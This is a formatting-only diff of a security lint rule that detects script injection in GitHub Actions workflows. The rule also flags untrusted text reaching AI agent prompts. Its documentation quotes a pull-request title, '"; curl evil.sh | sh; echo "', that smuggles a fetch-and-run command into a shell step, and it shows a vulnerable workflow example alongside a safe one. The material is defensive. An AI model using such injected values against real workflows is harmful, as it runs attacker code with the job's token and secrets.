@@ -3,7 +3,15 @@ import type { AnalysisContext } from '../../engine/context';
 import type { ExpressionOccurrence } from '../../expressions/parse';
 import type { ScalarValue } from '../../model/common';
 import type { Job, Step } from '../../model/workflow';
-import { actionTaint, describeTaint, expressionTaints, workflowTaint, type Taint, type TaintedRef, type TaintScope } from '../../analysis/taint';
+import {
+  actionTaint,
+  describeTaint,
+  expressionTaints,
+  workflowTaint,
+  type Taint,
+  type TaintedRef,
+  type TaintScope,
+} from '../../analysis/taint';
 import { describeReach, severityForReach, type Reach } from '../../analysis/triggers';
 import { languageOfShell, moveExpressionToEnv, type ScriptLanguage } from '../../fixes/script-env';
 
@@ -44,12 +52,13 @@ export default defineRule({
     appliesTo: ['workflow', 'action'],
     fixable: true,
     docs: {
-      risk:
-        'GitHub substitutes `${{ }}` expressions into the script text before the shell runs it. A pull request title such as `"; curl evil.sh | sh; echo "` becomes shell code running with the job\'s token and secrets. The same holds for values that carry such text further: env vars and step or job outputs set from it, inputs of a composite action or reusable workflow, and prompts of AI agents that can run tools. Severity follows who can trigger the workflow: high when any GitHub user can and the job has secrets (pull_request_target, issue_comment, issues, workflow_run...), medium for fork pull requests, reusable workflows and composite actions, low when only maintainers can.',
+      risk: 'GitHub substitutes `${{ }}` expressions into the script text before the shell runs it. A pull request title such as `"; curl evil.sh | sh; echo "` becomes shell code running with the job\'s token and secrets. The same holds for values that carry such text further: env vars and step or job outputs set from it, inputs of a composite action or reusable workflow, and prompts of AI agents that can run tools. Severity follows who can trigger the workflow: high when any GitHub user can and the job has secrets (pull_request_target, issue_comment, issues, workflow_run...), medium for fork pull requests, reusable workflows and composite actions, low when only maintainers can.',
       remediation:
         'Pass the value through an environment variable and reference it quoted: `env: TITLE: ${{ github.event.pull_request.title }}` and `echo "$TITLE"` (bash/sh), `$env:TITLE` (pwsh), `%TITLE%` (cmd), `os.environ["TITLE"]` (python), `process.env.TITLE` (actions/github-script). The quick-fix does exactly that, reusing an existing env entry with the same value. Numbers, SHAs, ids, booleans and statuses are never reported. AI agent prompts have no mechanical fix: gate the workflow on the author\'s association and keep untrusted text out of the prompt.',
-      vulnerableExample: 'on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.pull_request.title }}"\n',
-      safeExample: 'on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          PR_TITLE: ${{ github.event.pull_request.title }}\n        run: echo "$PR_TITLE"\n',
+      vulnerableExample:
+        'on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.pull_request.title }}"\n',
+      safeExample:
+        'on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          PR_TITLE: ${{ github.event.pull_request.title }}\n        run: echo "$PR_TITLE"\n',
       references: [
         'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
         'https://securitylab.github.com/resources/github-actions-untrusted-input/',
@@ -67,12 +76,30 @@ export default defineRule({
   },
 });
 
-type Sink = { kind: 'script'; lang?: ScriptLanguage; what: string } | { kind: 'action-input'; what: string } | { kind: 'prompt'; what: string };
+type Sink =
+  | { kind: 'script'; lang?: ScriptLanguage; what: string }
+  | { kind: 'action-input'; what: string }
+  | { kind: 'prompt'; what: string };
 
-function checkStep(step: Step, job: Job | undefined, scope: TaintScope, reach: Reach | 'action', ctx: AnalysisContext, outerEnv: Array<{ entries: Array<{ name: string }> } | undefined>): void {
+function checkStep(
+  step: Step,
+  job: Job | undefined,
+  scope: TaintScope,
+  reach: Reach | 'action',
+  ctx: AnalysisContext,
+  outerEnv: Array<{ entries: Array<{ name: string }> } | undefined>,
+): void {
   if (step.run) {
     const shell = step.shell ?? (job?.runsOn.some((r) => /windows/i.test(r.text)) ? 'pwsh' : 'bash');
-    checkValue(step, step.run, { kind: 'script', lang: languageOfShell(shell), what: `the ${shell} script` }, scope, reach, ctx, outerEnv);
+    checkValue(
+      step,
+      step.run,
+      { kind: 'script', lang: languageOfShell(shell), what: `the ${shell} script` },
+      scope,
+      reach,
+      ctx,
+      outerEnv,
+    );
   }
   const slug = step.uses?.slug;
   if (!slug || !step.with) return;
@@ -82,11 +109,35 @@ function checkStep(step: Step, job: Job | undefined, scope: TaintScope, reach: R
     if (!entry.value?.expressions.length) continue;
     const input = entry.name.toLowerCase();
     if (slug === 'actions/github-script' && input === 'script') {
-      checkValue(step, entry.value, { kind: 'script', lang: 'javascript', what: 'the github-script code' }, scope, reach, ctx, outerEnv);
+      checkValue(
+        step,
+        entry.value,
+        { kind: 'script', lang: 'javascript', what: 'the github-script code' },
+        scope,
+        reach,
+        ctx,
+        outerEnv,
+      );
     } else if (executing?.includes(input)) {
-      checkValue(step, entry.value, { kind: 'action-input', what: `${slug}'s ${entry.name} input, which it executes` }, scope, reach, ctx, outerEnv);
+      checkValue(
+        step,
+        entry.value,
+        { kind: 'action-input', what: `${slug}'s ${entry.name} input, which it executes` },
+        scope,
+        reach,
+        ctx,
+        outerEnv,
+      );
     } else if (prompts?.includes(input)) {
-      checkValue(step, entry.value, { kind: 'prompt', what: `the ${entry.name} of AI agent ${slug}` }, scope, reach, ctx, outerEnv);
+      checkValue(
+        step,
+        entry.value,
+        { kind: 'prompt', what: `the ${entry.name} of AI agent ${slug}` },
+        scope,
+        reach,
+        ctx,
+        outerEnv,
+      );
     }
   }
 }
@@ -94,7 +145,15 @@ function checkStep(step: Step, job: Job | undefined, scope: TaintScope, reach: R
 /** Beyond this many expressions in one script, findings carry no fix: each fix rewrites every occurrence, which would be quadratic. */
 const MAX_FIXABLE_EXPRESSIONS = 500;
 
-function checkValue(step: Step, value: ScalarValue, sink: Sink, scope: TaintScope, reach: Reach | 'action', ctx: AnalysisContext, outerEnv: Array<{ entries: Array<{ name: string }> } | undefined>): void {
+function checkValue(
+  step: Step,
+  value: ScalarValue,
+  sink: Sink,
+  scope: TaintScope,
+  reach: Reach | 'action',
+  ctx: AnalysisContext,
+  outerEnv: Array<{ entries: Array<{ name: string }> } | undefined>,
+): void {
   // Identical expressions share one fix (it rewrites all of them at once).
   const fixes = new Map<string, Fix | undefined>();
   const fixable = sink.kind === 'script' && !!sink.lang && value.expressions.length <= MAX_FIXABLE_EXPRESSIONS;
@@ -104,11 +163,12 @@ function checkValue(step: Step, value: ScalarValue, sink: Sink, scope: TaintScop
     const hit = strongestHit(hits);
     const { severity, confidence } = rating(hit.taint, reach);
     const key = ctx.text.slice(expr.span.start, expr.span.end);
-    if (fixable && !fixes.has(key)) fixes.set(key, fixFor(step, value, expr, hit, (sink as { lang: ScriptLanguage }).lang, ctx.text, outerEnv));
+    if (fixable && !fixes.has(key))
+      fixes.set(key, fixFor(step, value, expr, hit, (sink as { lang: ScriptLanguage }).lang, ctx.text, outerEnv));
     const fix = fixes.get(key);
     const advice =
       sink.kind === 'prompt'
-        ? 'an attacker can instruct the agent. Keep untrusted text out of the prompt and gate the workflow on the author\'s association.'
+        ? "an attacker can instruct the agent. Keep untrusted text out of the prompt and gate the workflow on the author's association."
         : sink.kind === 'action-input'
           ? 'it runs as code. Pass it through an environment variable the command reads instead.'
           : sink.lang === 'javascript'
@@ -153,7 +213,9 @@ function sourcePhrase(t: Taint, reach: Reach | 'action'): string {
     case 'action-input':
       return 'comes from the workflow using this action, which may pass attacker text';
     default:
-      return reach === 'maintainer' ? 'may carry text written by others (e.g. merged commits)' : 'can be set by an outsider';
+      return reach === 'maintainer'
+        ? 'may carry text written by others (e.g. merged commits)'
+        : 'can be set by an outsider';
   }
 }
 
@@ -162,10 +224,24 @@ function reachPhrase(t: Taint, reach: Reach | 'action'): string {
   return describeReach(reach);
 }
 
-function fixFor(step: Step, script: ScalarValue, expr: ExpressionOccurrence, hit: TaintedRef, lang: ScriptLanguage, text: string, outerEnv: Array<{ entries: Array<{ name: string }> } | undefined>): Fix | undefined {
+function fixFor(
+  step: Step,
+  script: ScalarValue,
+  expr: ExpressionOccurrence,
+  hit: TaintedRef,
+  lang: ScriptLanguage,
+  text: string,
+  outerEnv: Array<{ entries: Array<{ name: string }> } | undefined>,
+): Fix | undefined {
   const segments = hit.ref.segments;
   // `${{ env.NAME }}` already names a process environment variable: read it in place.
-  const existingVar = segments[0] === 'env' && segments.length === 2 && expr.inner.trim().toLowerCase() === `env.${segments[1]}` ? expr.inner.trim().slice(4) : undefined;
-  const baseName = segments.filter((s) => s !== '*' && s !== 'event' && s !== 'outputs' && s !== 'github').slice(-2).join('_');
+  const existingVar =
+    segments[0] === 'env' && segments.length === 2 && expr.inner.trim().toLowerCase() === `env.${segments[1]}`
+      ? expr.inner.trim().slice(4)
+      : undefined;
+  const baseName = segments
+    .filter((s) => s !== '*' && s !== 'event' && s !== 'outputs' && s !== 'github')
+    .slice(-2)
+    .join('_');
   return moveExpressionToEnv({ text, step, script, expr, lang, baseName, outerEnv, existingVar });
 }
